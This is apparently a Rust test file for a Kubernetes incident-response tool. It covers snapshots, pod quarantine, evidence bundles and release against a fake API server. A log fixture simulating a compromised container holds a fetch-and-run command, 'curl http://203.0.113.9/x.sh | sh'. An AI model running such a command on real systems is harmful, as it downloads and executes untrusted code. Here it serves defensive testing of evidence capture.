//! Snapshots, quarantine, release and evidence against the fake API server:
//! the real kube-rs client stack over HTTP, responses shaped as a real API
//! server's (discovery, paginated lists, patch types, logs, events, Status
//! objects for 401, 403 and 404).

use std::collections::BTreeMap;

use palisade_cluster::bundle;
use palisade_cluster::incident::{self, QuarantineOptions, ReleaseOptions, Step, StepStatus};
use palisade_cluster::snapshot::{self, Scope, SnapshotOptions};
use palisade_cluster::testing::FakeApiServer;
use palisade_cluster::{Cluster, ErrorKind};
use serde_json::{json, Value};

fn pod(ns: &str, name: &str, labels: Value) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": name, "namespace": ns, "labels": labels},
        "spec": {"containers": [{"name": "app", "image": "nginx:1.27"}], "nodeName": "node-1"}
    })
}

fn web_pod() -> Value {
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {
            "name": "web-7d4b9-abcde", "namespace": "shop", "uid": "11111111-2222-3333-4444-555555555555",
            "labels": {"app": "web", "tier": "frontend", "pod-template-hash": "7d4b9"},
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-7d4b9", "uid": "rs-uid", "controller": true}]
        },
        "spec": {
            "nodeName": "node-1",
            "serviceAccountName": "web",
            "initContainers": [{"name": "migrate", "image": "registry.example/migrate:2"}],
            "containers": [
                {"name": "app", "image": "registry.example/web:1.4"},
                {"name": "sidecar", "image": "registry.example/proxy:3"}
            ]
        },
        "status": {
            "phase": "Running",
            "initContainerStatuses": [{"name": "migrate", "imageID": "registry.example/migrate@sha256:aaaa", "restartCount": 0}],
            "containerStatuses": [
                {"name": "app", "imageID": "registry.example/web@sha256:bbbb", "restartCount": 2, "containerID": "containerd://c1",
                 "lastState": {"terminated": {"exitCode": 137}}},
                {"name": "sidecar", "imageID": "registry.example/proxy@sha256:cccc", "restartCount": 0}
            ]
        }
    })
}

fn incident_cluster() -> FakeApiServer {
    let server = FakeApiServer::start();
    {
        let mut s = server.state();
        s.add(json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "shop", "labels": {"kubernetes.io/metadata.name": "shop"}}}));
        s.add(web_pod());
        s.add(json!({"apiVersion": "apps/v1", "kind": "ReplicaSet", "metadata": {"name": "web-7d4b9", "namespace": "shop",
            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": "web", "uid": "dep-uid", "controller": true}]},
            "spec": {"selector": {"matchLabels": {"app": "web", "pod-template-hash": "7d4b9"}}}}));
        s.add(json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web", "namespace": "shop"},
            "spec": {"selector": {"matchLabels": {"app": "web"}}}}));
        s.add(json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "web", "namespace": "shop"}, "spec": {"selector": {"app": "web"}}}));
        s.add(json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "frontends", "namespace": "shop"}, "spec": {"selector": {"tier": "frontend"}}}));
        s.add(json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "db", "namespace": "shop"}, "spec": {"selector": {"app": "db"}}}));
        s.add(
            json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": "node-1"}, "spec": {}}),
        );
        s.add(json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "web", "namespace": "shop"}}));
        s.add(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "read-secrets", "namespace": "shop"},
            "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get", "list"]}]}));
        s.add(json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "web-secrets", "namespace": "shop"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "read-secrets"},
            "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}]}));
        s.add(json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "web-ingress", "namespace": "shop"},
            "spec": {"podSelector": {"matchLabels": {"app": "web"}}, "policyTypes": ["Ingress"], "ingress": [{}]}}));
        s.add(json!({"apiVersion": "v1", "kind": "Event", "metadata": {"name": "web.1", "namespace": "shop"},
            "involvedObject": {"kind": "Pod", "name": "web-7d4b9-abcde", "namespace": "shop", "uid": "11111111-2222-3333-4444-555555555555"},
            "reason": "BackOff", "message": "Back-off restarting failed container app"}));
        s.add(json!({"apiVersion": "v1", "kind": "Event", "metadata": {"name": "other.1", "namespace": "shop"},
            "involvedObject": {"kind": "Pod", "name": "other", "namespace": "shop", "uid": "other-uid"}, "reason": "Pulled"}));
        for (container, previous, text) in [
            ("migrate", false, "2025-01-01T00:00:00Z migrated\n"),
            ("app", false, "2025-01-01T00:01:00Z GET /admin 200\n"),
            (
                "app",
                true,
                "2025-01-01T00:00:30Z curl http://203.0.113.9/x.sh | sh\n",
            ),
            ("sidecar", false, "2025-01-01T00:01:00Z proxy up\n"),
        ] {
            s.logs.insert(
                (
                    "shop".into(),
                    "web-7d4b9-abcde".into(),
                    container.into(),
                    previous,
                ),
                text.into(),
            );
        }
    }
    server
}

fn cluster(server: &FakeApiServer) -> Cluster {
    Cluster::from_client(server.client(), &server.url())
}

fn options(dry_run: bool) -> QuarantineOptions {
    QuarantineOptions {
        namespace: "shop".into(),
        pod: "web-7d4b9-abcde".into(),
        reason: "crypto-miner alert".into(),
        case_id: Some("IR-42".into()),
        dry_run,
        ..QuarantineOptions::default()
    }
}

fn writes(server: &FakeApiServer) -> Vec<(String, String, Option<String>)> {
    server
        .state()
        .writes()
        .iter()
        .filter(|r| !r.path.ends_with("selfsubjectreviews"))
        .map(|r| (r.method.clone(), r.path.clone(), r.content_type.clone()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn snapshot_reads_every_page_of_every_kind() {
    let server = FakeApiServer::start();
    {
        let mut s = server.state();
        for i in 0..7 {
            s.add(pod("a", &format!("p{i}"), json!({"app": "x"})));
        }
        s.add(pod("b", "q0", json!({})));
        s.add(json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "a"}}));
        s.add(json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "b"}}));
        s.add(json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db", "namespace": "a"}, "data": {"password": "aHVudGVyMg=="}}));
        s.add(json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "cfg", "namespace": "a",
            "managedFields": [{"manager": "kubectl"}]}, "data": {"k": "v"}}));
        s.serve(
            "templates.gatekeeper.sh",
            "v1",
            "ConstraintTemplate",
            "constrainttemplates",
            false,
        );
        s.serve(
            "constraints.gatekeeper.sh",
            "v1beta1",
            "K8sRequiredLabels",
            "k8srequiredlabels",
            false,
        );
        s.add(json!({"apiVersion": "constraints.gatekeeper.sh/v1beta1", "kind": "K8sRequiredLabels", "metadata": {"name": "must-have-owner"}, "spec": {}}));
        s.expire_next_continue = true;
    }
    let options = SnapshotOptions {
        page_size: 3,
        ..SnapshotOptions::default()
    };
    let snap = snapshot::take(&server.client(), &options, &snapshot::NoProgress)
        .await
        .unwrap();
    let counts = snap.counts();
    assert_eq!(counts.get("Pod"), Some(&8), "{counts:?}");
    assert_eq!(counts.get("Namespace"), Some(&2));
    assert_eq!(
        counts.get("K8sRequiredLabels"),
        Some(&1),
        "constraint kinds are discovered"
    );
    assert_eq!(
        counts.get("Secret"),
        None,
        "Secrets are left out unless asked for"
    );
    assert!(snap.problems.is_empty(), "{:?}", snap.problems);
    assert!(snap
        .not_served
        .iter()
        .any(|k| k == "adminnetworkpolicies.policy.networking.k8s.io"));
    // Pages of 3: 8 pods took 3 pages, plus one restarted page after the expired token.
    {
        let state = server.state();
        let pod_lists: Vec<&str> = state
            .requests
            .iter()
            .filter(|r| r.path == "/api/v1/pods")
            .map(|r| r.query.as_str())
            .collect();
        assert_eq!(pod_lists.len(), 5, "{pod_lists:?}");
        assert!(pod_lists.iter().all(|q| q.contains("limit=3")));
    }
    // Items are typed, sorted, and without managedFields.
    let pods: Vec<&Value> = snap.objects.iter().filter(|o| o["kind"] == "Pod").collect();
    assert_eq!(pods[0]["apiVersion"], "v1");
    assert_eq!(pods[0]["metadata"]["name"], "p0");
    assert_eq!(pods[7]["metadata"]["namespace"], "b");
    let cm = snap
        .objects
        .iter()
        .find(|o| o["kind"] == "ConfigMap")
        .unwrap();
    assert!(cm["metadata"].get("managedFields").is_none());

    // The YAML file loads back as the same objects.
    let text = snap.to_yaml("context test");
    let loaded = palisade_model::load_text("cluster.yaml", text, &Default::default());
    assert!(loaded.errors.is_empty(), "{:?}", loaded.errors);
    assert_eq!(loaded.objects.len(), snap.objects.len());
    let json = snap.to_json();
    let loaded = palisade_model::load_text("cluster.json", json, &Default::default());
    assert_eq!(loaded.objects.len(), snap.objects.len());

    // With Secrets: values redacted.
    let options = SnapshotOptions {
        include_secrets: true,
        ..SnapshotOptions::default()
    };
    let snap = snapshot::take(&server.client(), &options, &snapshot::NoProgress)
        .await
        .unwrap();
    let secret = snap.objects.iter().find(|o| o["kind"] == "Secret").unwrap();
    assert_eq!(secret["data"]["password"], snapshot::REDACTED_DATA);
    assert!(!snap.to_yaml("x").contains("aHVudGVyMg=="));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn snapshot_of_a_namespace_reports_denied_kinds() {
    let server = FakeApiServer::start();
    {
        let mut s = server.state();
        s.add(pod("a", "p", json!({})));
        s.add(pod("b", "q", json!({})));
        s.add(json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "a"}}));
        s.deny("list", "configmaps", Some("a"));
        s.deny("list", "clusterroles", None);
    }
    let options = SnapshotOptions {
        scope: Scope::Namespace("a".into()),
        ..SnapshotOptions::default()
    };
    let snap = snapshot::take(&server.client(), &options, &snapshot::NoProgress)
        .await
        .unwrap();
    let names: Vec<&str> = snap
        .objects
        .iter()
        .filter(|o| o["kind"] == "Pod")
        .map(|o| o["metadata"]["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["p"]);
    assert_eq!(snap.counts().get("Namespace"), Some(&1));
    let messages: Vec<&str> = snap.problems.iter().map(|p| p.message.as_str()).collect();
    assert_eq!(messages.len(), 2, "{messages:?}");
    assert!(messages.iter().any(|m| m.starts_with("cannot list configmaps in namespace \"a\": needs `list` on `configmaps` in namespace \"a\"")), "{messages:?}");
    assert!(
        messages
            .iter()
            .any(|m| m
                .contains("needs `list` on `clusterroles.rbac.authorization.k8s.io` cluster-wide")),
        "{messages:?}"
    );
    assert!(snap
        .problems
        .iter()
        .all(|p| p.kind == ErrorKind::Forbidden && p.code == Some(403)));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn expired_credentials_and_unreachable_clusters_are_explained() {
    let server = FakeApiServer::start();
    server.state().unauthorized = true;
    let e = snapshot::take(
        &server.client(),
        &SnapshotOptions::default(),
        &snapshot::NoProgress,
    )
    .await
    .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Unauthorized);
    assert!(
        e.message.contains("401 Unauthorized") && e.message.contains("expired"),
        "{}",
        e.message
    );

    // A port nothing listens on.
    let addr = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap()
    };
    let config = kube::Config::new(format!("http://{addr}").parse().unwrap());
    let client = kube::Client::try_from(config).unwrap();
    let e = snapshot::take(&client, &SnapshotOptions::default(), &snapshot::NoProgress)
        .await
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Unreachable);
    assert!(
        e.message
            .starts_with("cannot reach the cluster's API server"),
        "{}",
        e.message
    );
    assert!(
        e.message.to_lowercase().contains("refused"),
        "{}",
        e.message
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dry_run_plans_without_writing() {
    let server = incident_cluster();
    let mut printed: Vec<Step> = Vec::new();
    let outcome = incident::quarantine(&cluster(&server), &options(true), &mut |s: &Step| {
        printed.push(s.clone())
    })
    .await
    .unwrap();
    assert!(
        server.state().writes().is_empty(),
        "a dry run writes nothing: {:?}",
        server.state().writes()
    );
    let names: Vec<(&str, StepStatus)> = printed.iter().map(|s| (s.name, s.status)).collect();
    assert_eq!(
        names,
        [
            ("network-policy", StepStatus::Planned),
            ("services", StepStatus::Planned),
            ("label-pod", StepStatus::Planned),
            ("evidence", StepStatus::Planned)
        ]
    );
    let policy = printed[0].object.as_ref().unwrap();
    assert_eq!(
        policy["metadata"]["name"],
        "palisade-quarantine-web-7d4b9-abcde"
    );
    assert_eq!(
        policy["spec"]["podSelector"]["matchLabels"][incident::QUARANTINE_LABEL],
        "11111111-2222-3333-4444-555555555555"
    );
    assert_eq!(policy["spec"]["policyTypes"], json!(["Ingress", "Egress"]));
    let patch = printed[2].object.as_ref().unwrap();
    assert_eq!(patch["metadata"]["labels"]["app"], Value::Null);
    assert_eq!(patch["metadata"]["labels"]["tier"], Value::Null);
    assert!(
        patch["metadata"]["labels"]
            .get("pod-template-hash")
            .is_none(),
        "only labels Services select by are removed"
    );
    assert_eq!(outcome.case_id, "IR-42");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quarantine_isolates_collects_is_idempotent_and_releases() {
    let server = incident_cluster();
    // The ReplicaSet lets the pod go when its Service labels are removed, as
    // the real controller does, before the evidence is read.
    server.state().release_unmatched_pods = true;
    let c = cluster(&server);
    let mut opts = options(false);
    opts.cordon = true;
    opts.forensics_namespace = Some("forensics".into());
    let mut printed: Vec<Step> = Vec::new();
    let outcome = incident::quarantine(&c, &opts, &mut |s: &Step| printed.push(s.clone()))
        .await
        .unwrap();
    let statuses: Vec<(&str, StepStatus)> = printed.iter().map(|s| (s.name, s.status)).collect();
    assert_eq!(
        statuses,
        [
            ("network-policy", StepStatus::Done),
            ("services", StepStatus::Done),
            ("label-pod", StepStatus::Done),
            ("evidence", StepStatus::Done),
            ("cordon", StepStatus::Done)
        ]
    );
    assert_eq!(
        outcome.operator, "alice@example.com",
        "the identity comes from a SelfSubjectReview"
    );
    // Order and patch types: apply the policy, then one merge patch of the pod, then the node.
    let w = writes(&server);
    assert_eq!(w.len(), 3, "{w:?}");
    assert_eq!(w[0].0, "PATCH");
    assert_eq!(w[0].1, "/apis/networking.k8s.io/v1/namespaces/shop/networkpolicies/palisade-quarantine-web-7d4b9-abcde");
    assert_eq!(w[0].2.as_deref(), Some("application/apply-patch+yaml"));
    assert_eq!(w[1].1, "/api/v1/namespaces/shop/pods/web-7d4b9-abcde");
    assert_eq!(w[1].2.as_deref(), Some("application/merge-patch+json"));
    assert_eq!(w[2].1, "/api/v1/nodes/node-1");
    {
        let s = server.state();
        let pod = s.get("pods", "shop", "web-7d4b9-abcde").unwrap();
        let labels = &pod["metadata"]["labels"];
        assert_eq!(
            labels[incident::QUARANTINE_LABEL],
            "11111111-2222-3333-4444-555555555555"
        );
        assert!(
            labels.get("app").is_none() && labels.get("tier").is_none(),
            "{labels}"
        );
        assert_eq!(labels["pod-template-hash"], "7d4b9");
        let notes = &pod["metadata"]["annotations"];
        assert_eq!(notes[incident::REASON_ANNOTATION], "crypto-miner alert");
        assert_eq!(notes[incident::OPERATOR_ANNOTATION], "alice@example.com");
        assert_eq!(notes[incident::CASE_ANNOTATION], "IR-42");
        let removed: BTreeMap<String, String> =
            serde_json::from_str(notes[incident::REMOVED_LABELS_ANNOTATION].as_str().unwrap())
                .unwrap();
        assert_eq!(
            removed,
            BTreeMap::from([
                ("app".to_string(), "web".to_string()),
                ("tier".to_string(), "frontend".to_string())
            ])
        );
        let policy = s
            .get(
                "networkpolicies",
                "shop",
                "palisade-quarantine-web-7d4b9-abcde",
            )
            .unwrap();
        assert_eq!(
            policy["spec"]["ingress"][0]["from"][0]["namespaceSelector"]["matchLabels"]
                ["kubernetes.io/metadata.name"],
            "forensics"
        );
        assert_eq!(policy["spec"]["egress"], json!([]));
        assert_eq!(
            s.get("nodes", "", "node-1").unwrap()["spec"]["unschedulable"],
            true
        );
    }

    // Evidence: every container's logs (init and previous instance too), owners, events, node, RBAC.
    let evidence = outcome.evidence.unwrap();
    let files: Vec<&str> = evidence.files.iter().map(|f| f.path.as_str()).collect();
    for expected in [
        "pod.json",
        "owners/1-ReplicaSet-web-7d4b9.json",
        "owners/2-Deployment-web.json",
        "events.json",
        "logs/migrate.log",
        "logs/app.log",
        "logs/app.previous.log",
        "logs/sidecar.log",
        "images.json",
        "node-name.txt",
        "node.json",
        "namespace.json",
        "serviceaccount.json",
        "rbac/bindings.json",
        "logs/index.json",
    ] {
        assert!(
            files.contains(&expected),
            "{expected} missing from {files:?}"
        );
    }
    assert!(!files.contains(&"logs/sidecar.previous.log"));
    // The owner chain comes from the pod as it was before its controller released it.
    let pod_now: Value = serde_json::from_slice(
        &evidence
            .files
            .iter()
            .find(|f| f.path == "pod.json")
            .unwrap()
            .bytes,
    )
    .unwrap();
    assert!(
        pod_now["metadata"].get("ownerReferences").is_none(),
        "released by its ReplicaSet: {pod_now}"
    );
    let pod_before: Value = serde_json::from_slice(
        &evidence
            .files
            .iter()
            .find(|f| f.path == "pod-before-quarantine.json")
            .unwrap()
            .bytes,
    )
    .unwrap();
    assert_eq!(
        pod_before["metadata"]["ownerReferences"][0]["name"],
        "web-7d4b9"
    );
    assert_eq!(pod_before["metadata"]["labels"]["app"], "web");
    assert!(evidence.errors.is_empty(), "{:?}", evidence.errors);
    let file = |p: &str| evidence.files.iter().find(|f| f.path == p).unwrap();
    assert!(String::from_utf8_lossy(&file("logs/app.previous.log").bytes).contains("x.sh | sh"));
    let events: Value = serde_json::from_slice(&file("events.json").bytes).unwrap();
    assert_eq!(
        events["items"].as_array().unwrap().len(),
        1,
        "only the pod's events"
    );
    let images: Value = serde_json::from_slice(&file("images.json").bytes).unwrap();
    assert_eq!(images[1]["digest"], "sha256:bbbb");
    let bindings: Value = serde_json::from_slice(&file("rbac/bindings.json").bytes).unwrap();
    assert_eq!(bindings["items"][0]["metadata"]["name"], "web-secrets");
    assert_eq!(
        evidence.original_labels.get("app").map(String::as_str),
        Some("web")
    );
    assert_eq!(evidence.network_policies.len(), 2);
    assert_eq!(evidence.rbac_objects.len(), 2);

    // The bundle: hashes match, and verify agrees.
    let dir = tempfile::tempdir().unwrap();
    let written = bundle::write(
        dir.path(),
        "IR-42",
        json!({"case": "IR-42"}),
        &evidence.files,
    )
    .unwrap();
    let content = bundle::read(&written.path).unwrap();
    let manifest: Value = serde_json::from_slice(
        &content
            .iter()
            .find(|(p, _)| p == "manifest.json")
            .unwrap()
            .1,
    )
    .unwrap();
    for entry in manifest["files"].as_array().unwrap() {
        let path = entry["path"].as_str().unwrap();
        let bytes = &content.iter().find(|(p, _)| p == path).unwrap().1;
        assert_eq!(
            entry["sha256"].as_str().unwrap(),
            bundle::sha256_hex(bytes),
            "{path}"
        );
        assert!(entry["collectedAt"].as_str().unwrap().ends_with('Z'));
    }
    assert!(bundle::verify(&written.path).unwrap().is_empty());

    // Re-running changes nothing in the cluster and keeps the first record.
    let before = writes(&server).len();
    let mut printed: Vec<Step> = Vec::new();
    let again = incident::quarantine(&c, &opts, &mut |s: &Step| printed.push(s.clone()))
        .await
        .unwrap();
    assert_eq!(
        writes(&server).len(),
        before,
        "an idempotent re-run writes nothing"
    );
    let statuses: Vec<(&str, StepStatus)> = printed.iter().map(|s| (s.name, s.status)).collect();
    assert_eq!(
        statuses,
        [
            ("network-policy", StepStatus::Unchanged),
            ("label-pod", StepStatus::Unchanged),
            ("evidence", StepStatus::Done),
            ("cordon", StepStatus::Unchanged)
        ]
    );
    assert_eq!(
        again
            .evidence
            .unwrap()
            .original_labels
            .get("tier")
            .map(String::as_str),
        Some("frontend")
    );

    // Release: labels back, policy gone, node uncordoned (Palisade cordoned it).
    let mut printed: Vec<Step> = Vec::new();
    let release = ReleaseOptions {
        namespace: "shop".into(),
        pod: "web-7d4b9-abcde".into(),
        uncordon: true,
        ..ReleaseOptions::default()
    };
    incident::release(&c, &release, &mut |s: &Step| printed.push(s.clone()))
        .await
        .unwrap();
    let statuses: Vec<(&str, StepStatus)> = printed.iter().map(|s| (s.name, s.status)).collect();
    assert_eq!(
        statuses,
        [
            ("unlabel-pod", StepStatus::Done),
            ("network-policy", StepStatus::Done),
            ("uncordon", StepStatus::Done)
        ]
    );
    {
        let s = server.state();
        let pod = s.get("pods", "shop", "web-7d4b9-abcde").unwrap();
        assert_eq!(
            pod["metadata"]["labels"],
            json!({"app": "web", "tier": "frontend", "pod-template-hash": "7d4b9"})
        );
        assert!(pod["metadata"]["annotations"]
            .as_object()
            .is_none_or(|a| a.keys().all(|k| !k.starts_with("palisade.dev/"))));
        assert!(s
            .get(
                "networkpolicies",
                "shop",
                "palisade-quarantine-web-7d4b9-abcde"
            )
            .is_none());
        assert!(s.get("nodes", "", "node-1").unwrap()["spec"]
            .get("unschedulable")
            .is_none());
    }
    // Releasing again: nothing to do.
    let mut printed: Vec<Step> = Vec::new();
    incident::release(&c, &release, &mut |s: &Step| printed.push(s.clone()))
        .await
        .unwrap();
    assert!(
        printed.iter().all(|s| s.status != StepStatus::Done),
        "{printed:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rbac_denials_stop_isolation_but_not_evidence() {
    // Patching pods denied: the policy is applied, the label fails, the error says why.
    let server = incident_cluster();
    server.state().deny("patch", "pods", Some("shop"));
    let mut printed: Vec<Step> = Vec::new();
    let e = incident::quarantine(&cluster(&server), &options(false), &mut |s: &Step| {
        printed.push(s.clone())
    })
    .await
    .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Forbidden);
    assert!(e.message.starts_with("cannot patch pods \"web-7d4b9-abcde\" in namespace \"shop\": needs `patch` on `pods` in namespace \"shop\""), "{}", e.message);
    assert_eq!(printed.last().unwrap().status, StepStatus::Failed);
    assert!(
        printed
            .last()
            .unwrap()
            .message
            .ends_with("(the NetworkPolicy exists but selects nothing until the label is set)"),
        "{printed:?}"
    );

    // Reading nodes and logs denied: isolation done, the evidence records what is missing.
    let server = incident_cluster();
    server.state().deny("get", "nodes", None);
    server.state().deny("get", "pods/log", Some("shop"));
    let outcome = incident::quarantine(&cluster(&server), &options(false), &mut |_: &Step| {})
        .await
        .unwrap();
    let evidence = outcome.evidence.unwrap();
    let errors: BTreeMap<&str, &str> = evidence
        .errors
        .iter()
        .map(|(i, m)| (i.as_str(), m.as_str()))
        .collect();
    assert!(
        errors["node.json"].contains("needs `get` on `nodes` cluster-wide"),
        "{errors:?}"
    );
    assert!(
        errors["logs/app.log"].contains("needs `get` on `pods/log` in namespace \"shop\""),
        "{errors:?}"
    );
    assert!(errors.contains_key("logs/app.previous.log"));
    assert!(evidence.files.iter().any(|f| f.path == "pod.json"));

    // kube-system is refused without --force.
    let server = FakeApiServer::start();
    server.state().add(json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "coredns", "namespace": "kube-system"}, "spec": {"containers": [{"name": "c", "image": "x"}]}}));
    let mut opts = options(false);
    opts.namespace = "kube-system".into();
    opts.pod = "coredns".into();
    let e = incident::quarantine(&cluster(&server), &opts, &mut |_: &Step| {})
        .await
        .unwrap_err();
    assert!(e.message.contains("--force"), "{}", e.message);
    assert!(server.state().writes().is_empty());

    // A pod that does not exist.
    let server = incident_cluster();
    let mut opts = options(false);
    opts.pod = "nope".into();
    let e = incident::quarantine(&cluster(&server), &opts, &mut |_: &Step| {})
        .await
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::NotFound);
    assert!(
        e.message.contains("pods \\\"nope\\\" not found")
            || e.message.contains("pods \"nope\" not found"),
        "{}",
        e.message
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn checkpoints_are_requested_through_the_node_proxy() {
    let server = incident_cluster();
    server.state().checkpoint_enabled = true;
    let mut opts = options(false);
    opts.checkpoint = true;
    let outcome = incident::quarantine(&cluster(&server), &opts, &mut |_: &Step| {})
        .await
        .unwrap();
    let evidence = outcome.evidence.unwrap();
    let file = evidence
        .files
        .iter()
        .find(|f| f.path == "checkpoints.json")
        .unwrap();
    let results: Value = serde_json::from_slice(&file.bytes).unwrap();
    assert_eq!(
        results.as_array().unwrap().len(),
        2,
        "one per app container"
    );
    assert!(results[0]["archives"][0]
        .as_str()
        .unwrap()
        .starts_with("/var/lib/kubelet/checkpoints/"));

    // Without the feature: recorded, not fatal.
    let server = incident_cluster();
    let outcome = incident::quarantine(&cluster(&server), &opts, &mut |_: &Step| {})
        .await
        .unwrap();
    let evidence = outcome.evidence.unwrap();
    assert!(
        evidence
            .errors
            .iter()
            .any(|(i, m)| i == "checkpoint/app" && m.contains("ContainerCheckpoint")),
        "{:?}",
        evidence.errors
    );
}

/// Records what the snapshot reports.
#[derive(Default)]
struct Recorder {
    kinds: std::sync::Mutex<usize>,
    pages: std::sync::Mutex<BTreeMap<String, (usize, usize)>>,
    done: std::sync::Mutex<BTreeMap<String, usize>>,
}

impl snapshot::Progress for Recorder {
    fn start(&self, kinds: usize) {
        *self.kinds.lock().unwrap() = kinds;
    }
    fn page(&self, kind: &str, items: usize) {
        let mut pages = self.pages.lock().unwrap();
        let entry = pages.entry(kind.to_string()).or_default();
        entry.0 += 1;
        entry.1 += items;
    }
    fn done(&self, kind: &str, total: usize) {
        self.done.lock().unwrap().insert(kind.to_string(), total);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn snapshot_lists_kinds_concurrently_and_reports_progress() {
    let server = FakeApiServer::start();
    {
        let mut s = server.state();
        for i in 0..5 {
            s.add(pod("a", &format!("p{i}"), json!({})));
        }
        s.add(json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "a"}}));
        s.delay = std::time::Duration::from_millis(40);
    }
    let options = SnapshotOptions {
        page_size: 2,
        concurrency: 4,
        only: Some(vec![
            "Namespace".into(),
            "Pod".into(),
            "Service".into(),
            "ConfigMap".into(),
            "Role".into(),
            "NetworkPolicy".into(),
        ]),
        ..SnapshotOptions::default()
    };
    let recorder = Recorder::default();
    let snap = snapshot::take(&server.client(), &options, &recorder)
        .await
        .unwrap();
    let most = server.state().max_in_flight;
    assert!(
        (2..=4).contains(&most),
        "kinds are listed several at a time, at most --concurrency: {most}"
    );
    assert_eq!(*recorder.kinds.lock().unwrap(), 6);
    let pages = recorder.pages.lock().unwrap().clone();
    assert_eq!(pages["Pod"], (3, 5), "5 pods in pages of 2");
    assert_eq!(pages["Namespace"], (1, 1));
    let done = recorder.done.lock().unwrap().clone();
    assert_eq!(done.len(), 6, "{done:?}");
    assert_eq!(done["Pod"], 5);
    assert_eq!(done["ConfigMap"], 0);
    assert_eq!(
        snap.requests, 8,
        "3 pages of pods, one page of each other kind"
    );

    // One at a time when asked.
    server.state().max_in_flight = 0;
    let options = SnapshotOptions {
        concurrency: 1,
        ..options
    };
    snapshot::take(&server.client(), &options, &snapshot::NoProgress)
        .await
        .unwrap();
    assert_eq!(server.state().max_in_flight, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn snapshot_of_a_missing_namespace_says_so() {
    let server = FakeApiServer::start();
    let options = SnapshotOptions {
        scope: Scope::Namespace("nope".into()),
        only: Some(vec!["Namespace".into(), "Pod".into()]),
        ..SnapshotOptions::default()
    };
    let snap = snapshot::take(&server.client(), &options, &snapshot::NoProgress)
        .await
        .unwrap();
    assert_eq!(snap.problems.len(), 1, "{:?}", snap.problems);
    assert!(
        snap.problems[0]
            .message
            .starts_with("namespace \"nope\" does not exist"),
        "{}",
        snap.problems[0].message
    );
    assert!(snap.not_served.is_empty(), "{:?}", snap.not_served);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn palisades_own_pods_and_kube_system_need_force() {
    let server = FakeApiServer::start();
    {
        let mut s = server.state();
        s.add(json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "palisade-webhook-1", "namespace": "palisade",
            "labels": {"app.kubernetes.io/name": "palisade", "app.kubernetes.io/component": "admission-webhook"}},
            "spec": {"containers": [{"name": "webhook", "image": "palisade:1"}]}}));
        s.add(json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "coredns", "namespace": "kube-system"},
            "spec": {"nodeName": "node-1", "containers": [{"name": "c", "image": "x"}]}}));
    }
    let c = cluster(&server);
    let mut opts = options(false);
    opts.namespace = "palisade".into();
    opts.pod = "palisade-webhook-1".into();
    let e = incident::quarantine(&c, &opts, &mut |_: &Step| {})
        .await
        .unwrap_err();
    assert!(
        e.message.contains("one of Palisade's own pods") && e.message.contains("--force"),
        "{}",
        e.message
    );
    assert!(writes(&server).is_empty());
    // Release is guarded the same way.
    let release = ReleaseOptions {
        namespace: "palisade".into(),
        pod: "palisade-webhook-1".into(),
        ..ReleaseOptions::default()
    };
    let e = incident::release(&c, &release, &mut |_: &Step| {})
        .await
        .unwrap_err();
    assert!(e.message.contains("--force"), "{}", e.message);

    // With --force, kube-system's pod is quarantined.
    let mut opts = options(false);
    opts.namespace = "kube-system".into();
    opts.pod = "coredns".into();
    opts.force = true;
    incident::quarantine(&c, &opts, &mut |_: &Step| {})
        .await
        .unwrap();
    let s = server.state();
    let pod = s.get("pods", "kube-system", "coredns").unwrap();
    assert_eq!(
        pod["metadata"]["labels"][incident::QUARANTINE_LABEL],
        "uid-pods-kube-system-coredns"
    );
    assert!(s
        .get(
            "networkpolicies",
            "kube-system",
            "palisade-quarantine-coredns"
        )
        .is_some());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn release_denied_names_the_permission_and_keeps_the_pod_released() {
    let server = incident_cluster();
    let c = cluster(&server);
    incident::quarantine(&c, &options(false), &mut |_: &Step| {})
        .await
        .unwrap();
    server
        .state()
